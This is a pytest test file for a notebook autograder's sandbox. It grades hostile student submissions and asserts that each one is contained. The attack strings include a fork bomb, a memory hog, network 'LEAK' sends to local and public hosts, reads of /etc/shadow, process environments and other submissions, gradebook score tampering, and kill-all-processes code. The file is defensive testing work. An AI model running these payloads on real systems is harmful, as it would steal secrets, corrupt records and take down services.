"""Hostile notebooks during autograding: each is contained and graded, the grader survives, the others are fine.

All hostile submissions and a correct one are graded in one `atlaslab grade` run. Most attacks are written
so that *succeeding* would earn full marks (``add`` is only correct when the attack worked): a zero is the
proof of containment, besides what the host checks (no connection received, no file written, no process
left, gradebook intact).
"""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import subprocess
import threading
import uuid

import pytest
from nbcourse import CORRECT, COURSE, autograded, grade, make_course, outputs_of, record, scores, submit

pytestmark = pytest.mark.root

WIN = "\ndef add(a, b):\n    return a + b if WON else None\n"
SECRET = "atlaslab-test-secret-" + uuid.uuid4().hex


class Listener:
    """A TCP, a UDP and an abstract Unix socket server on this host, recording whatever reaches them."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.unix_name = f"atlaslab-test-{uuid.uuid4().hex}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.unix_name)
        self.unix.listen()
        self.received: list[str] = []
        for sock in (self.tcp, self.udp, self.unix):
            sock.settimeout(0.2)
            threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock):
        while sock.fileno() != -1:
            try:
                if sock.type == socket.SOCK_DGRAM:
                    self.received.append(f"udp:{sock.recv(100)!r}")
                else:
                    conn, _ = sock.accept()
                    self.received.append(f"{sock.family.name}:connection")
                    conn.close()
            except (TimeoutError, OSError):
                continue

    def close(self):
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def attacks(root, listener, markers) -> dict[str, str]:
    other = root / "submitted" / "correct" / "ps1" / "ps1.ipynb"
    return {
        "loop": "while True:\n    pass\n" + CORRECT,
        "forkbomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
        + CORRECT,
        "memhog": "hog = []\nwhile True:\n    hog.append(bytearray(32 * 2**20))\n" + CORRECT,
        "network": f"""import socket
WON = False
for addr in [("127.0.0.1", {listener.tcp.getsockname()[1]}), ("8.8.8.8", 53), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(addr, timeout=3).sendall(b"LEAK")
        WON = True
        print("CONNECTED", addr)
    except OSError as e:
        print("BLOCKED", addr, e)
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", {listener.udp.getsockname()[1]}))
except OSError as e:
    print("BLOCKED udp", e)
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\\0{listener.unix_name}")
    WON = True
    print("CONNECTED unix")
except OSError as e:
    print("BLOCKED unix", e)
"""
        + WIN,
        "gradebook": f"""import os, sqlite3
WON = False
for path in [{str(root / "gradebook.db")!r}, {str(root / "nbgrader_config.py")!r}]:
    try:
        print("LEAKED", path, len(open(path, "rb").read()))
        WON = True
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
try:
    sqlite3.connect({str(root / "gradebook.db")!r}).execute("update grade set auto_score = 100")
    WON = True
except Exception as e:
    print("BLOCKED sqlite", type(e).__name__)
for pid in os.listdir("/proc"):  # through another process's cwd or root
    for link in ("cwd", "root"):
        try:
            found = os.listdir(f"/proc/{{pid}}/{{link}}/submitted")
            print("LEAKED", pid, link, found)
            WON = True
        except OSError:
            pass
"""
        + WIN,
        "othersub": f"""WON = False
for path in [{str(other)!r}, {str(root / "autograded")!r}, {str(root / "submitted")!r}]:
    try:
        print("LEAKED", path, open(path).read()[:50] if path.endswith("ipynb") else __import__("os").listdir(path))
        WON = True
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
"""
        + WIN,
        "homes": """import os
print(dict(os.environ))
WON = "ATLASLAB_TEST_SECRET" in os.environ
for d in ["/root", "/home"]:
    try:
        found = os.listdir(d)
        print("LISTED", d, found)
        WON = WON or bool(found)
    except OSError as e:
        print("BLOCKED", d, type(e).__name__)
for path in ["/etc/shadow", "/proc/1/environ", "/root/.bashrc"]:
    try:
        print("LEAKED", path, open(path, "rb").read()[:20])
        WON = True
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
"""
        + WIN,
        "writes": f"""WON = False
for path in [{str(root / "pwned.txt")!r}, {str(root / "gradebook.db")!r}, *{[str(m) for m in markers]!r}, "/usr/pwned"]:
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("WROTE", path)
        WON = WON or path.startswith({str(root)!r}) or path.startswith("/usr")
    except OSError as e:
        print("BLOCKED", path, type(e).__name__)
"""
        + WIN,
        "killparent": """import os
try:
    os.kill(os.getppid(), 9)
    print("KILLED the parent")
except OSError as e:
    print("BLOCKED", e, flush=True)
__import__("time").sleep(0.5)  # let the executor receive it: what a cell printed before dying is kept
os.killpg(os.getpgid(0), 9)
"""
        + CORRECT,
        "killall": """import os
WON = False
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), 9)
            print("KILLED", pid)
            WON = True
        except OSError:
            pass
os.kill(-1, 9)  # everything of this account but itself: there is nothing else
"""
        + WIN,
        "hugeout": "for i in range(200_000):\n    print('x' * 1000)\n" + CORRECT,
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = make_course(tmp_path_factory.mktemp("attacks") / COURSE)
    listener = Listener()
    tag = uuid.uuid4().hex
    markers = [f"/tmp/atlaslab-marker-{tag}", f"/var/tmp/atlaslab-marker-{tag}", f"/dev/shm/atlaslab-marker-{tag}"]
    submit(root, "correct", CORRECT)
    for student, code in attacks(root, listener, markers).items():
        submit(root, student, code)
    args = ("--timeout", "8", "--workers", "2", "--memory", "256M", "--processes", "48")
    run = grade(root, *args, extra_env={"ATLASLAB_TEST_SECRET": SECRET}, timeout=400)
    yield root, run, listener, markers
    listener.close()
    for m in markers:
        if os.path.exists(m):
            os.remove(m)


def test_the_run_completes_and_the_correct_submission_gets_full_marks(attacked):
    root, run, _, _ = attacked
    assert run.returncode == 0, run.stdout + run.stderr
    assert "Traceback" not in run.stderr
    assert scores(root)["correct"] == 3.0
    assert record(root, "correct")["status"] == "graded"


def test_every_attack_scores_zero(attacked):
    root, _, _, _ = attacked
    got = scores(root)
    for student in ("loop", "forkbomb", "memhog", "network", "gradebook", "othersub", "homes", "writes"):
        assert got[student] == 0.0, (student, outputs_of(autograded(root, student))[-3000:])
    for student in ("killparent", "killall"):
        assert got[student] == 0.0, (student, outputs_of(autograded(root, student))[-3000:])


def test_statuses_and_reasons(attacked):
    root, _, _, _ = attacked
    assert record(root, "loop")["status"] == "timeout"
    assert record(root, "forkbomb")["status"] in ("timeout", "kernel died")
    memhog = record(root, "memhog")
    assert memhog["status"] == "kernel died" and "memory limit (256 MiB)" in memhog["reason"], memhog
    assert record(root, "killparent")["status"] == "kernel died", record(root, "killparent")
    for student in ("network", "gradebook", "othersub", "homes", "writes", "killall"):
        assert record(root, student)["status"] == "graded", record(root, student)


def test_no_network(attacked):
    root, _, listener, _ = attacked
    text = outputs_of(autograded(root, "network"))
    assert "CONNECTED" not in text and text.count("BLOCKED") == 4, text
    assert "Network is unreachable" in text  # nothing to send through: no route at all
    assert listener.received == []


def test_no_reading_the_course_other_submissions_or_homes(attacked):
    root, _, _, _ = attacked
    for student in ("gradebook", "othersub", "homes"):
        text = outputs_of(autograded(root, student))
        assert "LEAKED" not in text and "LISTED" not in text and "BLOCKED" in text, text
    everything = "".join(outputs_of(autograded(root, s)) for s in os.listdir(root / "autograded"))
    assert SECRET not in everything


def test_no_writing_outside(attacked):
    root, _, _, markers = attacked
    text = outputs_of(autograded(root, "writes"))
    assert f"BLOCKED {root / 'pwned.txt'}" in text and "BLOCKED /usr/pwned" in text, text
    assert not (root / "pwned.txt").exists()
    for marker in markers:  # written in the sandbox's private /tmp, /var/tmp, /dev/shm: gone with it
        assert not os.path.exists(marker), marker


def test_killing_the_parent_or_anything_else_fails(attacked):
    root, _, _, _ = attacked
    text = outputs_of(autograded(root, "killparent"))
    assert "BLOCKED" in text and "KILLED the parent" not in text, text
    assert "KILLED" not in outputs_of(autograded(root, "killall"))


def test_huge_output_is_truncated(attacked):
    root, _, _, _ = attacked
    path = root / "autograded" / "hugeout" / "ps1" / "ps1.ipynb"
    assert path.stat().st_size < 3 * 2**20
    assert record(root, "hugeout")["status"] == "graded", record(root, "hugeout")
    assert "output truncated by the autograder" in outputs_of(autograded(root, "hugeout"))
    assert scores(root)["hugeout"] == 3.0


def test_gradebook_intact_and_nothing_left_running(attacked):
    root, _, _, _ = attacked
    with sqlite3.connect(root / "gradebook.db") as db:
        assert db.execute("pragma integrity_check").fetchone() == ("ok",)
        assert db.execute("select max(auto_score) from grade").fetchone()[0] <= 2
    ps = subprocess.run(["ps", "-eo", "user:32="], capture_output=True, text=True).stdout.split()
    # This run used workers 0 and 1 (--workers 2); higher numbers belong to other grading runs on the machine.
    ours = tuple(f"atlaslab-{kind}-{i}" for kind in ("sandbox", "executor") for i in range(2))
    assert not [u for u in ps if u in ours]
    statuses = {s: record(root, s)["status"] for s in json.loads(json.dumps(sorted(os.listdir(root / "submitted"))))}
    assert len(statuses) == 12
